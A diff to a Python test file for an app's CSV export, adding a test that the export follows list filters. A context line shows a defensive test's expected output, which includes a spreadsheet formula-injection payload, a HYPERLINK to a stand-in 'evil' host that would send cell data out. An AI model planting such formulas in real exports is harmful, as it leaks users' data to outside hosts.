@@ -42,6 +42,22 @@ def test_the_export_neutralises_spreadsheet_formulas(team, lina, client_for):
     assert cells == {('\'=HYPERLINK("http://evil/?"&A1,"x")', "'@SUM(1+1)"), ("'+1-2", "'-cmd")}
 
 
+def test_the_export_follows_the_list_filters_and_an_invalid_one_exports_nothing(
+    team, lina, client_for
+):
+    agus = agent_user(team)
+    conversation_from_text(PUSHY_ID, team=team, agent=agus)
+    client = client_for(lina)
+
+    def exported(query: str) -> list[list[str]]:
+        response = client.get(reverse("service:export") + query)
+        return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert len(exported("")) == 2  # the header and the one conversation
+    assert len(exported("?team=" + str(team.pk))) == 2
+    assert exported("?channel=carrier-pigeon") == [exported("")[0]]  # the header only
+
+
 def _reviewed(team, lina):
     agus = agent_user(team)
     conversation = conversation_from_text(PUSHY_ID, team=team, agent=agus)
